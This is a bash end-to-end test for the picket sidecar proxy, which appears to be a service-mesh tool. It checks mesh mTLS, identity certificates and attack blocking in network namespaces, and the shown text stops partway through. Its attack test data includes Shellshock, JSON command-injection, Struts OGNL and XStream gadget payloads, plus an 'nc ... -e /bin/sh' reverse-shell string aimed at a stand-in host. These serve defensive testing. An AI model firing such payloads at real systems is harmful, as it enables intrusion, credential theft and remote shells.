#!/usr/bin/env bash
# End-to-end test of picket on real kernel networking, without Kubernetes: network namespaces
# stand in for a node and its pods. Run as root from anywhere:
#
#   sudo tools/e2e-netns.sh                  # build the topology, test, tear everything down
#   sudo KEEP=1 tools/e2e-netns.sh           # leave it up afterwards (prints how to remove it)
#   sudo PICKET_BIN=/path/to/picket INJECTOR_BIN=/path/to/picket-injector tools/e2e-netns.sh
#
# PICKET_BIN defaults to ${CARGO_TARGET_DIR:-target}/release/picket and INJECTOR_BIN to
# ${CARGO_TARGET_DIR:-target}/release/picket-injector (cargo build --release -p picket -p
# picket-injector). crates/proxy/tests/e2e_netns.rs runs this script in `cargo test`.
#
# Topology (names carry this shell's PID, so runs never collide; only addresses inside these
# namespaces are used, and /etc/netns/<pod namespace>/hosts while it runs):
#
#   pk-e2e-PID-node      bridge br0 10.77.0.1/24 fd77::1/64, one veth per pod; the identity
#                        service (picket-injector identity, [::]:15012) with a mesh CA made
#                        by picket-injector ca generate and a static tokens file
#   pk-e2e-PID-client    eth0 10.77.0.10 fd77::10  picket init + picket proxy (UID 2102) with
#                        the mesh identity spiffe://cluster.local/ns/e2e/sa/client;
#                        the "application" is curl and a gRPC client run as UID 65534
#   pk-e2e-PID-server    eth0 10.77.0.20 fd77::20  picket init --exclude-inbound-ports 8081 +
#                        picket proxy (UID 2102, --exclude-inbound-ports 8081) with the mesh
#                        identity .../sa/server; the application: backend.py on 8080 and
#                        8081 (HTTP/1.1 echo), grpc_peer.py on 50051, as UID 65534
#   pk-e2e-PID-external  eth0 10.77.0.30 fd77::30  backend.py on 8080, no picket (un-meshed)
#
# The mesh certificates come from the identity service, as in a cluster: each sidecar gets
# --identity-address picket-identity.e2e.svc:15012 (the service's --dns-name; the pod's
# /etc/netns/<ns>/hosts, which `ip netns exec` mounts over /etc/hosts, maps it to 10.77.0.1
# in the client pod and to fd77::1 in the server pod), its own token file (the tokens file
# maps it to e2e/client or e2e/server) and --identity-ca the generated root. The sidecars are
# started first: their /readyz is 503 until the identity service is started, then 200. The
# workload certificates live 20 s, so they are renewed during the run (checked in
# picket_mesh_certificate_renewals_total{result="ok"}, then mTLS still works). The client
# sidecar probes each destination's mesh port 15443: traffic between the client and server
# pods is mesh mTLS, the external server is reached in plaintext. tcpdump captures on the server's and the external pod's
# veth prove it: the request's path, a unique header value and the body are not in the
# server capture (TLS handshake and application-data records are), and are in the external
# one.
#
# Each step asserts its outcome (HTTP status and body, curl's reset, the gRPC status, the
# sidecar's block log line on its stdout with the peer's SPIFFE id, what the application
# received, the sidecars' /metrics, the captures) and the script stops at the first failure
# with a message saying what went wrong. Then the server sidecar is restarted with
# --mesh-inbound strict (the external client's plaintext is refused, the meshed client is
# still served), and without mesh certificates (the client sidecar's cached "meshed" answer
# makes one connection fail, never a plaintext retry; the next one probes again).
set -Eeuo pipefail

ROOT=$(cd "$(dirname "$0")/.." && pwd)
SUPPORT=$ROOT/crates/proxy/tests/support
PICKET_BIN=${PICKET_BIN:-${CARGO_TARGET_DIR:-$ROOT/target}/release/picket}
INJECTOR_BIN=${INJECTOR_BIN:-${CARGO_TARGET_DIR:-$ROOT/target}/release/picket-injector}
KEEP=${KEEP:-0}
PY=/usr/bin/python3
PROXY_UID=2102
APP_UID=65534

PFX=pk-e2e-$$
NODE=$PFX-node
CLIENT=$PFX-client
SERVER=$PFX-server
EXTERNAL=$PFX-external
NET4=10.77.0
NET6=fd77:
CLIENT4=$NET4.10 CLIENT6=${NET6}:10
SERVER4=$NET4.20 SERVER6=${NET6}:20
EXTERNAL4=$NET4.30 EXTERNAL6=${NET6}:30
# The identity service (picket-injector identity) in the node namespace: its name in the pods'
# hosts files, its port, and its health port (/metrics) on the node's loopback.
IDENTITY_NAME=picket-identity.e2e.svc
IDENTITY_PORT=15012
IDENTITY_HEALTH=127.0.0.1:15014

STARTED=$(date +%s)
step() { printf '\n=== %s\n' "$*"; }
say() { printf '    %s\n' "$*"; }
ok() { printf '    ok: %s\n' "$*"; }
die() {
  printf '\ne2e-netns: FAILED: %s\n' "$*" >&2
  exit 1
}

# --- prerequisites --------------------------------------------------------------------------
[ "$(id -u)" = 0 ] || die "must run as root (network namespaces, iptables): sudo $0"
for tool in ip iptables setpriv curl ss tcpdump; do
  command -v "$tool" >/dev/null || die "prerequisite missing: $tool (apt-get install iproute2 iptables util-linux curl tcpdump)"
done
[ -x "$PY" ] || die "prerequisite missing: $PY"
"$PY" -c 'import grpc' 2>/dev/null || die "prerequisite missing: grpcio for $PY (apt-get install python3-grpcio)"
[ -x "$PICKET_BIN" ] || die "no picket binary at $PICKET_BIN: cargo build --release -p picket, or set PICKET_BIN"
[ -x "$INJECTOR_BIN" ] || die "no picket-injector binary at $INJECTOR_BIN (the identity service): cargo build --release -p picket-injector, or set INJECTOR_BIN"

# --- teardown -------------------------------------------------------------------------------
WORK=$(mktemp -d /tmp/pk-e2e-$$.XXXXXX)
chmod 755 "$WORK"
PIDS=()
NAMESPACES=()
# /etc/netns/<ns> directories made here (the pods' hosts files), and /etc/netns itself if
# this run made it.
ETC_NETNS=()
MADE_ETC_NETNS=0
[ -d /etc/netns ] || MADE_ETC_NETNS=1
declare -A PICKET_PID=()

# gone PID: the process has exited (no longer exists, or a zombie not yet reaped).
gone() { [ ! -e "/proc/$1" ] || [ "$(awk '{ print $3 }' "/proc/$1/stat" 2>/dev/null)" = Z ]; }

teardown_commands() {
  local pid ns d
  for pid in "${PIDS[@]}"; do
    gone "$pid" || printf 'kill %s\n' "$pid"
  done
  for ns in "${NAMESPACES[@]}"; do
    printf 'ip netns del %s\n' "$ns"
  done
  for d in "${ETC_NETNS[@]}"; do
    printf 'rm -rf %s\n' "$d"
  done
  [ "$MADE_ETC_NETNS" = 0 ] || printf 'rmdir /etc/netns\n'
  printf 'rm -rf %s\n' "$WORK"
}

cleanup() {
  local rc=$? pid ns d
  trap - EXIT ERR
  if [ "$KEEP" = 1 ]; then
    teardown_commands >"$WORK/teardown.sh"
    printf '\nKEEP=1: the topology is still up (exit status %s). Logs are in %s.\n' "$rc" "$WORK"
    printf 'Look around, e.g.:\n'
    printf '  ip netns exec %s curl -s http://%s:15090/metrics\n' "$NODE" "$SERVER4"
    printf '  ip netns exec %s tcpdump -ni br0 tcp\n' "$NODE"
    printf '  ip netns exec %s iptables-save -t nat\n' "$SERVER"
    printf '  ip netns exec %s curl -s http://%s/metrics   # the identity service\n' "$NODE" "$IDENTITY_HEALTH"
    printf 'Tear it down with: sh %s/teardown.sh   which runs:\n' "$WORK"
    sed 's/^/  /' "$WORK/teardown.sh"
    exit "$rc"
  fi
  for pid in "${PIDS[@]}"; do
    kill "$pid" 2>/dev/null || true
  done
  for pid in "${PIDS[@]}"; do
    for _ in $(seq 50); do
      gone "$pid" && break
      sleep 0.1
    done
    kill -KILL "$pid" 2>/dev/null || true
    wait "$pid" 2>/dev/null || true
  done
  # Nothing may be left in the namespaces; if something is, it is a bug of this script: say
  # so, and stop it (by PID, and only processes inside these namespaces).
  for ns in "${NAMESPACES[@]}"; do
    for pid in $(ip netns pids "$ns" 2>/dev/null); do
      printf 'e2e-netns: process %s (%s) was left in %s: killed\n' "$pid" "$(tr '\0' ' ' <"/proc/$pid/cmdline" 2>/dev/null)" "$ns" >&2
      kill -KILL "$pid" 2>/dev/null || true
      [ "$rc" != 0 ] || rc=1
    done
    ip netns del "$ns" 2>/dev/null || true
  done
  for d in "${ETC_NETNS[@]}"; do
    rm -rf "$d"
  done
  [ "$MADE_ETC_NETNS" = 0 ] || rmdir /etc/netns 2>/dev/null || true
  if [ "$rc" != 0 ] && [ -d "$WORK" ]; then
    for f in "$WORK"/*.out "$WORK"/*.err; do
      [ -s "$f" ] || continue
      printf '\n--- %s (last lines)\n' "${f##*/}" >&2
      tail -n 15 "$f" >&2
    done
  fi
  rm -rf "$WORK"
  printf '\nremoved namespaces %s, %s and every process started (%s s)\n' "${NAMESPACES[*]}" "${ETC_NETNS[*]}" "$(($(date +%s) - STARTED))"
  exit "$rc"
}
trap cleanup EXIT
# Any other command that fails stops the run too, and says which.
trap 'die "line $LINENO: $BASH_COMMAND (exit status $?)"' ERR
trap 'exit 129' HUP
trap 'exit 130' INT
trap 'exit 143' TERM

# Binaries and scripts where UIDs 2102 and 65534 can run them (the checkout may sit under a
# directory only root can enter).
cp "$PICKET_BIN" "$WORK/picket"
cp "$SUPPORT/backend.py" "$SUPPORT/grpc_peer.py" "$WORK/"
chmod 755 "$WORK/picket" "$WORK/backend.py" "$WORK/grpc_peer.py"
BIN=$WORK/picket

in_ns() {
  local ns=$1
  shift
  ip netns exec "$ns" "$@"
}

# The application's identity (not root, not picket's UID).
AS_APP=(setpriv --reuid="$APP_UID" --regid="$APP_UID" --clear-groups)

# wait_for WHAT SECONDS CMD...: polls CMD every 0.1 s until it succeeds, for at most SECONDS;
# gives up at once when the process $WATCH (if set) has exited.
WATCH=
wait_for() {
  local what=$1 secs=$2
  shift 2
  local i
  for ((i = 0; i < secs * 10; i++)); do
    if "$@" >/dev/null 2>&1; then
      return 0
    fi
    if [ -n "$WATCH" ] && gone "$WATCH"; then
      die "$what: the process exited"
    fi
    sleep 0.1
  done
  die "$what: still not there after ${secs} s"
}

# stop_process PID: SIGTERM, bounded wait, reaped and forgotten by the teardown.
stop_process() {
  local pid=$1 p keep=()
  kill "$pid" 2>/dev/null || true
  wait_for "process $pid to exit" 15 gone "$pid"
  wait "$pid" 2>/dev/null || true
  for p in "${PIDS[@]}"; do
    [ "$p" = "$pid" ] || keep+=("$p")
  done
  PIDS=("${keep[@]}")
}

listening() { in_ns "$1" ss -Htln "sport = :$2" | grep -q .; }

# start NAME NS CMD...: CMD (an executable, not a shell function, so that $! is its own PID)
# in the background in namespace NS, stdout and stderr to $WORK/NAME.out and .err; its PID in
# PID[NAME] (ip netns exec, env and setpriv all exec, keeping the PID).
declare -A PID=()
start() {
  local name=$1 ns=$2
  shift 2
  ip netns exec "$ns" "$@" >"$WORK/$name.out" 2>"$WORK/$name.err" &
  PIDS+=("$!")
  PID[$name]=$!
}

# --- topology -------------------------------------------------------------------------------
# add_pod ROLE IPV4 IPV6: a namespace with eth0, a veth whose other end is on the node's bridge.
add_pod() {
  local role=$1 v4=$2 v6=$3 ns=$PFX-$1
  ip netns add "$ns"
  NAMESPACES+=("$ns")
  ip -n "$ns" link set lo up
  ip -n "$NODE" link add "v-$role" type veth peer name eth0 netns "$ns"
  ip -n "$NODE" link set "v-$role" master br0 up
  ip -n "$ns" addr add "$v4/24" dev eth0
  ip -n "$ns" addr add "$v6/64" dev eth0 nodad
  ip -n "$ns" link set eth0 up
  say "$ns: eth0 $v4/24 $v6/64 (veth v-$role on br0)"
}

step "topology: node $NODE (bridge br0), pods client, server, external"
ip netns add "$NODE"
NAMESPACES+=("$NODE")
ip -n "$NODE" link set lo up
ip -n "$NODE" link add br0 type bridge forward_delay 0 stp_state 0
ip -n "$NODE" addr add "$NET4.1/24" dev br0
ip -n "$NODE" addr add "${NET6}:1/64" dev br0 nodad
ip -n "$NODE" link set br0 up
say "$NODE: br0 $NET4.1/24 ${NET6}:1/64"
add_pod client "$CLIENT4" "$CLIENT6"
add_pod server "$SERVER4" "$SERVER6"
add_pod external "$EXTERNAL4" "$EXTERNAL6"

# --- applications ---------------------------------------------------------------------------
step "applications (UID $APP_UID): server backend.py :8080 :8081 and grpc_peer.py :50051; external backend.py :8080"
start server-app8080 "$SERVER" "${AS_APP[@]}" "$PY" "$WORK/backend.py" :: 8080
start server-app8081 "$SERVER" "${AS_APP[@]}" "$PY" "$WORK/backend.py" :: 8081
start server-grpc "$SERVER" "${AS_APP[@]}" "$PY" "$WORK/grpc_peer.py" server '[::]' 50051
start external-app8080 "$EXTERNAL" "${AS_APP[@]}" "$PY" "$WORK/backend.py" :: 8080
for l in "server-app8080 $SERVER 8080" "server-app8081 $SERVER 8081" "server-grpc $SERVER 50051" \
  "external-app8080 $EXTERNAL 8080"; do
  read -r name ns port <<<"$l"
  WATCH=${PID[$name]} wait_for "$name: listener on :$port in $ns" 15 listening "$ns" "$port"
done
ok "listening"

# --- the identity service's material --------------------------------------------------------
# A mesh CA as `picket-injector ca generate` makes it (the chart's Secret layout), a static
# tokens file for the identity service, one token file per pod (readable by picket's UID
# only), and the pods' hosts files naming the identity service (`ip netns exec` mounts
# /etc/netns/<ns>/hosts over /etc/hosts): the client pod reaches it over IPv4, the server pod
# over IPv6.
TRUST_DOMAIN=cluster.local
CLIENT_ID=spiffe://$TRUST_DOMAIN/ns/e2e/sa/client
SERVER_ID=spiffe://$TRUST_DOMAIN/ns/e2e/sa/server
declare -A SPIFFE=([client]=$CLIENT_ID [server]=$SERVER_ID)
WORKLOAD_TTL_S=20
WORKLOAD_TTL=${WORKLOAD_TTL_S}s
declare -A IDENTITY_IP=([client]=$NET4.1 [server]=${NET6}:1)
step "mesh CA (picket-injector ca generate, trust domain $TRUST_DOMAIN), tokens for e2e/client and e2e/server, hosts files naming $IDENTITY_NAME"
"$INJECTOR_BIN" ca generate --out "$WORK/ca" --trust-domain "$TRUST_DOMAIN" >"$WORK/ca-generate.log" 2>&1 \
  || die "picket-injector ca generate: $(cat "$WORK/ca-generate.log")"
install -m 644 "$WORK/ca/root.crt" "$WORK/identity-ca.crt"
random_token() { head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \n'; }
declare -A TOKEN=([client]=client-$(random_token) [server]=server-$(random_token))
printf '{"%s": "e2e/client", "%s": "e2e/server"}\n' "${TOKEN[client]}" "${TOKEN[server]}" >"$WORK/identity-tokens.json"
chmod 600 "$WORK/identity-tokens.json"
for role in client server; do
  printf '%s\n' "${TOKEN[$role]}" >"$WORK/$role.token"
  chown "$PROXY_UID:$PROXY_UID" "$WORK/$role.token"
  chmod 600 "$WORK/$role.token"
  ETC_NETNS+=("/etc/netns/$PFX-$role")
  mkdir -p "/etc/netns/$PFX-$role"
  printf '127.0.0.1 localhost\n::1 localhost ip6-localhost\n%s %s\n' "${IDENTITY_IP[$role]}" "$IDENTITY_NAME" \
    >"/etc/netns/$PFX-$role/hosts"
  chmod 755 "/etc/netns/$PFX-$role"
  chmod 644 "/etc/netns/$PFX-$role/hosts"
  got=$(in_ns "$PFX-$role" getent hosts "$IDENTITY_NAME" | awk '{ print $1; exit }') || true
  [ "$got" = "${IDENTITY_IP[$role]}" ] \
    || die "in $PFX-$role, $IDENTITY_NAME resolves to '$got', expected ${IDENTITY_IP[$role]} (/etc/netns/$PFX-$role/hosts)"
  say "$PFX-$role: token file $WORK/$role.token (UID $PROXY_UID, 0600) for e2e/$role; $IDENTITY_NAME -> ${IDENTITY_IP[$role]}"
done
# identity_args ROLE: the sidecar's arguments for the identity service.
identity_args() {
  printf '%s\n' --identity-address "$IDENTITY_NAME:$IDENTITY_PORT" --identity-token "$WORK/$1.token" \
    --identity-ca "$WORK/identity-ca.crt" --trust-domain "$TRUST_DOMAIN"
}
mapfile -t CLIENT_MESH < <(identity_args client)
mapfile -t SERVER_MESH < <(identity_args server)
ok "CA in $WORK/ca; the identity service is not started yet"

# --- the sidecars ---------------------------------------------------------------------------
# readyz_is ROLE CODE: ROLE's sidecar answers /readyz with HTTP status CODE.
readyz_is() {
  [ "$(in_ns "$PFX-$1" curl -q -s -o /dev/null -w '%{http_code}' --max-time 1 http://127.0.0.1:15090/readyz)" = "$2" ]
}

# start_picket ROLE [PROXY ARGS]: picket proxy in transparent mode as UID 2102 in the pod
# (through `ip netns exec`, so the pod's hosts file applies), block log lines (stdout) to
# $WORK/ROLE-picket.out; waits until /readyz answers $READY_WANT (default 200).
start_picket() {
  local role=$1 ns=$PFX-$1 want=${READY_WANT:-200}
  shift
  start "$role-picket" "$ns" env POD_NAME="$role" POD_NAMESPACE=e2e NO_COLOR=1 \
    setpriv --reuid="$PROXY_UID" --regid="$PROXY_UID" --clear-groups \
    "$BIN" proxy --admin-listen 0.0.0.0:15090 --drain-grace 1 "$@"
  PICKET_PID[$role]=$!
  WATCH=$! wait_for "picket in $ns (/readyz $want on 15090)" 20 readyz_is "$role" "$want"
  say "$role: picket proxy --admin-listen 0.0.0.0:15090 --drain-grace 1${*:+ $*} (PID ${PICKET_PID[$role]}, UID $PROXY_UID): /readyz $want"
}

step "server pod: picket init --exclude-inbound-ports 8081, then picket proxy (mesh identity sa/server from the identity service)"
in_ns "$SERVER" "$BIN" init --exclude-inbound-ports 8081 2>"$WORK/server-init.err" \
  || die "picket init in $SERVER: $(cat "$WORK/server-init.err")"
sed 's/^/    /' "$WORK/server-init.err"
SERVER_ARGS=("${SERVER_MESH[@]}" --exclude-inbound-ports 8081)
READY_WANT=503 start_picket server "${SERVER_ARGS[@]}"

step "client pod: picket init, then picket proxy (protect mode, mesh identity sa/client from the identity service)"
in_ns "$CLIENT" "$BIN" init 2>"$WORK/client-init.err" \
  || die "picket init in $CLIENT: $(cat "$WORK/client-init.err")"
sed 's/^/    /' "$WORK/client-init.err"
READY_WANT=503 start_picket client "${CLIENT_MESH[@]}"

# --- helpers for the checks -----------------------------------------------------------------
nlines() { if [ -f "$1" ]; then wc -l <"$1"; else echo 0; fi; }

# mark: remembers how many block log lines each sidecar has written so far.
declare -A MARK=()
mark() {
  MARK[client]=$(nlines "$WORK/client-picket.out")
  MARK[server]=$(nlines "$WORK/server-picket.out")
}

# expect_log ROLE KEY=VALUE|KEY^=PREFIX...: ROLE's sidecar wrote exactly one block log line
# since the mark, with these fields (KEY may be nested: signature.id).
expect_log() {
  local role=$1 file=$WORK/$1-picket.out i
  shift
  for ((i = 0; i < 50; i++)); do
    [ "$(nlines "$file")" -gt "${MARK[$role]}" ] && break
    sleep 0.1
  done
  "$PY" - "$file" "${MARK[$role]}" "$role" "$@" <<'PY' || die "block log of the $role sidecar: see above"
import json, sys
path, start, role, wants = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4:]
lines = open(path).read().splitlines()[start:]
if len(lines) != 1:
    print(f"    expected one new log line from the {role} sidecar, got {len(lines)}:", *lines, sep="\n      ")
    sys.exit(1)
v = json.loads(lines[0])
bad = []
for w in wants:
    key, op, exp = (w.partition("^=") if "^=" in w else w.partition("="))
    cur = v
    for part in key.split("."):
        cur = cur.get(part) if isinstance(cur, dict) else None
    got = "" if cur is None else str(cur)
    if not (got.startswith(exp) if op == "^=" else got == exp):
        bad.append(f"{key}: expected {'prefix ' if op == '^=' else ''}{exp!r}, got {got!r}")
sig = v.get("signature") or {}
print(f"    log ({role} sidecar): {v.get('event')} {v.get('direction')} {v.get('proto')} "
      f"{v.get('src')} -> {v.get('dst')} {v.get('method')} {v.get('path')}: {sig.get('id')} "
      f"at {v.get('location')}, action {v.get('action')}, mode {v.get('mode')}, pod {v.get('pod')}"
      + (f", peer {v['peer_identity']}" if v.get("peer_identity") else ""))
if bad:
    print("    wrong fields:", *bad, sep="\n      ")
    print("    line:", lines[0])
    sys.exit(1)
PY
}

# no_log ROLE: ROLE's sidecar wrote nothing since the mark (after a short settle).
no_log() {
  local file=$WORK/$1-picket.out
  sleep 0.3
  [ "$(nlines "$file")" -eq "${MARK[$1]}" ] \
    || die "the $1 sidecar logged: $(tail -n +"$((MARK[$1] + 1))" "$file")"
}

# metric ROLE SERIES: the value of one series of ROLE's /metrics (0 when absent).
metric() {
  local m
  m=$(in_ns "$PFX-$1" curl -q -sf --max-time 5 http://127.0.0.1:15090/metrics) \
    || die "/metrics of the $1 sidecar unreachable"
  awk -v s="$2" '$1 == s { v = $2 } END { print v + 0 }' <<<"$m"
}
series() { printf 'picket_requests_total{direction="%s",proto="%s",verdict="%s"}' "$1" "$2" "$3"; }

# expect_metric_delta ROLE SERIES BEFORE DELTA: the series moved by exactly DELTA (polled for
# up to 2 s: a call is counted as it ends, which may be just after the client has its answer).
expect_metric_delta() {
  local now i
  for ((i = 0; i < 20; i++)); do
    now=$(metric "$1" "$2")
    [ "$((now - $3))" -eq "$4" ] && return 0
    sleep 0.1
  done
  die "$1 sidecar: $2 went from $3 to $now, expected +$4"
}

# capture_start NAME VETH: tcpdump (as root, in the node namespace) on the node's end of a
# pod's veth, every TCP packet to $WORK/NAME.pcap, until capture_stop NAME.
declare -A CAPTURE=()
capture_start() {
  start "tcpdump-$1" "$NODE" tcpdump -i "$2" -n -U --immediate-mode -Z root -s 0 -w "$WORK/$1.pcap" tcp
  CAPTURE[$1]=$!
  WATCH=$! wait_for "tcpdump on $2" 10 grep -q "listening on" "$WORK/tcpdump-$1.err"
}
capture_stop() {
  sleep 0.2
  stop_process "${CAPTURE[$1]}"
}

# pcap_check NAME tls|clear PORT NEEDLE...: the TCP payloads to or from PORT in NAME.pcap.
# tls: there are some; TLS handshake (0x16) and application-data (0x17) records are among
# them; no NEEDLE appears anywhere in the capture. clear: every NEEDLE appears in them.
pcap_check() {
  "$PY" - "$WORK/$1.pcap" "$2" "$3" "${@:4}" <<'PY' || die "capture $1 ($2, port $3): see above"
import struct, sys
path, mode, port, needles = sys.argv[1], sys.argv[2], int(sys.argv[3]), [n.encode() for n in sys.argv[4:]]
raw = open(path, "rb").read()
magic = raw[:4]
e = "<" if magic in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
linktype = struct.unpack(e + "I", raw[20:24])[0]
off, payloads, packets = 24, [], 0
while off + 16 <= len(raw):
    incl = struct.unpack(e + "I", raw[off + 8:off + 12])[0]
    pkt = raw[off + 16:off + 16 + incl]
    off += 16 + incl
    packets += 1
    if linktype == 1:
        l3, ethertype = 14, struct.unpack(">H", pkt[12:14])[0]
    elif linktype == 113:
        l3, ethertype = 16, struct.unpack(">H", pkt[14:16])[0]
    else:
        sys.exit(f"    unexpected link type {linktype}")
    if ethertype == 0x0800:
        ihl, proto = (pkt[l3] & 15) * 4, pkt[l3 + 9]
        end = l3 + struct.unpack(">H", pkt[l3 + 2:l3 + 4])[0]
        l4 = l3 + ihl
    elif ethertype == 0x86DD:
        proto, l4 = pkt[l3 + 6], l3 + 40
        end = l4 + struct.unpack(">H", pkt[l3 + 4:l3 + 6])[0]
    else:
        continue
    if proto != 6:
        continue
    sport, dport = struct.unpack(">HH", pkt[l4:l4 + 4])
    data = pkt[l4 + (pkt[l4 + 12] >> 4) * 4:end]
    if port in (sport, dport) and data:
        payloads.append(data)
stream = b"".join(payloads)
print(f"    capture {path.rsplit('/', 1)[-1]}: {packets} packets, {len(payloads)} with payload on port {port} ({len(stream)} bytes)")
bad = []
if mode == "tls":
    if not payloads:
        bad.append("no payload at all on that port")
    for rtype, name in ((0x16, "handshake"), (0x17, "application data")):
        if not any(p[0] == rtype and p[1] == 3 for p in payloads):
            bad.append(f"no TLS {name} record (0x{rtype:02x} 0x03) starts a segment")
    for n in needles:
        if n in raw:
            bad.append(f"{n.decode()!r} is in the capture in clear")
    if not bad:
        print(f"    TLS records 0x16/0x17 seen; not in clear: {', '.join(n.decode() for n in needles)}")
else:
    for n in needles:
        if n not in stream:
            bad.append(f"{n.decode()!r} is not in the capture")
    if not bad:
        print(f"    in clear: {', '.join(n.decode() for n in needles)}")
for b in bad:
    print(f"    {b}")
sys.exit(1 if bad else 0)
PY
}

# app_saw FILE PATH: the application (backend.py, log on stderr) received a request for PATH.
app_saw() { grep -qF -- "\"GET $2 HTTP/1.1\"" "$1" || grep -qF -- "\"POST $2 HTTP/1.1\"" "$1"; }

# client_curl ARGS...: curl from the client application (UID 65534) in the client pod; sets
# RC and BODY.
client_curl() {
  RC=0
  BODY=$(in_ns "$CLIENT" "${AS_APP[@]}" curl -q -sS -g --max-time 10 "$@" 2>"$WORK/curl.err") || RC=$?
}

# expect_echo PATH: BODY is backend.py's answer to a request for PATH.
expect_echo() {
  [ "$RC" = 0 ] || die "request for $1: curl exit $RC ($(cat "$WORK/curl.err"))"
  "$PY" -c 'import json,sys; sys.exit(json.loads(sys.argv[1])["path"] != sys.argv[2])' "$BODY" "$1" 2>/dev/null \
    || die "request for $1: unexpected answer: $BODY"
}

# grpc_say ADDR TEXT: the gRPC client (UID 65534) in the client pod; sets GRPC_STATUS and
# GRPC_DETAILS.
grpc_say() {
  local out
  out=$(in_ns "$CLIENT" "${AS_APP[@]}" "$PY" "$WORK/grpc_peer.py" say "$1" "$2" 2>"$WORK/grpc.err") \
    || die "grpc client failed: $(cat "$WORK/grpc.err")"
  GRPC_STATUS=$("$PY" -c 'import json,sys; print(json.loads(sys.argv[1])["status"])' "$out")
  GRPC_DETAILS=$("$PY" -c 'import json,sys; print(json.loads(sys.argv[1])["details"])' "$out")
  say "grpc Say to $1: $out"
}

# grpc_never_saw_payload: the gRPC server (asked on its own loopback, not captured) received
# the benign call of step 1 and never the shell payload.
grpc_never_saw_payload() {
  local seen
  seen=$(in_ns "$SERVER" "$PY" "$WORK/grpc_peer.py" seen 127.0.0.1:50051) \
    || die "cannot ask the gRPC server what it received"
  grep -qF "hello from the client" <<<"$seen" || die "the gRPC server's record lacks the benign call: $seen"
  ! grep -qF "nc 203.0.113.5" <<<"$seen" || die "the gRPC server received the shell payload: $seen"
}

# The attacks: attack_args NAME sets ARGS (curl arguments) and SIG (the signature expected).
attack_args() {
  case $1 in
    shellshock)
      ARGS=(-A '() { :; }; /bin/cat /etc/passwd') SIG=PKT-SHELLSHOCK-FUNC ;;
    json-shell)
      ARGS=(-H 'Content-Type: application/json' --data '{"host":"10.0.0.1; cat /etc/passwd"}') SIG=PKT-SHELL-CMD ;;
    ognl)
      ARGS=(-H "Content-Type: %{(#_='multipart/form-data').(#cmd='id')}" --data x=1) SIG=PKT-STRUTS-OGNL ;;
    xstream)
      ARGS=(-H 'Content-Type: application/xml' --data '<java.lang.ProcessBuilder><command><string>/bin/sh</string><string>-c</string><string>id</string></command><redirectErrorStream>false</redirectErrorStream></java.lang.ProcessBuilder>')
      SIG=PKT-XSTREAM-GADGET ;;
    *) die "unknown attack $1" ;;
  esac
}
ATTACKS=(shellshock json-shell ognl xstream)
GRPC_ATTACK="report; /bin/sh -c 'nc 203.0.113.5 4444 -e /bin/sh'"
CURL_RESET=56

unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY all_proxy ALL_PROXY no_proxy NO_PROXY grpc_proxy

S_OUT_ALLOW=$(series outbound http1 allow)
S_IN_ALLOW=$(series inbound http1 allow)

# --- the identity service ------------------------------------------------------------------
S_RENEW_OK='picket_mesh_certificate_renewals_total{result="ok"}'
S_RENEW_ERR='picket_mesh_certificate_renewals_total{result="error"}'
S_EXPIRY=picket_mesh_certificate_expiry_timestamp_seconds
S_ISSUED='picket_identity_issued_total{result="issued"}'
# identity_metric SERIES: a series of the identity service's /metrics (0 when absent).
identity_metric() {
  local m
  m=$(in_ns "$NODE" curl -q -sf --max-time 5 "http://$IDENTITY_HEALTH/metrics") \
    || die "/metrics of the identity service unreachable"
  awk -v s="$1" '$1 == s { v = $2 } END { print v + 0 }' <<<"$m"
}
# no_connection_yet ROLE: ROLE's sidecar has tried the identity service and failed.
no_connection_yet() { [ "$(metric "$1" "$S_RENEW_ERR")" -ge 1 ]; }

step "identity service: the sidecars wait for it (/readyz 503), then picket-injector identity starts in $NODE and they become ready"
for role in server client; do
  WATCH=${PICKET_PID[$role]} wait_for "$role sidecar: a failed request to the identity service" 10 no_connection_yet "$role"
  readyz_is "$role" 503 || die "$role sidecar: /readyz is not 503 without a mesh certificate"
  [ "$(metric "$role" "$S_RENEW_OK")" = 0 ] || die "$role sidecar: a certificate before the identity service runs"
  ok "$role sidecar: /readyz 503, $S_RENEW_ERR $(metric "$role" "$S_RENEW_ERR") (nothing listens on $IDENTITY_PORT yet)"
done
start identity "$NODE" env NO_COLOR=1 "$INJECTOR_BIN" identity --listen "[::]:$IDENTITY_PORT" \
  --mesh-ca-dir "$WORK/ca" --tokens "$WORK/identity-tokens.json" --dns-name "$IDENTITY_NAME" \
  --workload-cert-ttl "$WORKLOAD_TTL" --health-listen "$IDENTITY_HEALTH"
WATCH=${PID[identity]} wait_for "identity service listening on :$IDENTITY_PORT in $NODE" 10 listening "$NODE" "$IDENTITY_PORT"
say "picket-injector identity --listen [::]:$IDENTITY_PORT --dns-name $IDENTITY_NAME --workload-cert-ttl $WORKLOAD_TTL --health-listen $IDENTITY_HEALTH (PID ${PID[identity]})"
for role in server client; do
  # Retries back off (1 s, 2 s, 4 s, ...): the first certificate comes within seconds.
  WATCH=${PICKET_PID[$role]} wait_for "$role sidecar: /readyz 200 after the identity service started" 20 readyz_is "$role" 200
  [ "$(metric "$role" "$S_RENEW_OK")" = 1 ] || die "$role sidecar: $S_RENEW_OK is $(metric "$role" "$S_RENEW_OK"), expected 1"
  grep -F "mesh certificate issued" "$WORK/$role-picket.err" | grep -qF "${SPIFFE[$role]}" \
    || die "$role sidecar: no 'mesh certificate issued' log line with ${SPIFFE[$role]}"
  left=$(($(metric "$role" "$S_EXPIRY") - $(date +%s)))
  [ "$left" -gt 0 ] && [ "$left" -le "$((WORKLOAD_TTL_S + 1))" ] \
    || die "$role sidecar: certificate expires in $left s, expected at most $WORKLOAD_TTL"
  ok "$role sidecar: /readyz 200, certificate for ${SPIFFE[$role]} from $IDENTITY_NAME:$IDENTITY_PORT (${IDENTITY_IP[$role]} in its hosts file), expires in $left s"
done
# Which pod asked from where (the identity service logs the peer): the client pod over IPv4
# (a v4-mapped peer on the dual-stack socket), the server pod over IPv6.
declare -A IDENTITY_PEER=([client]="[::ffff:$CLIENT4]:" [server]="[$SERVER6]:")
issued_to() {
  grep -F '"message":"certificate issued"' "$WORK/identity.err" | grep -F "\"serviceaccount\":\"$1\"" \
    | grep -qF "\"peer\":\"${IDENTITY_PEER[$1]}"
}
for role in client server; do
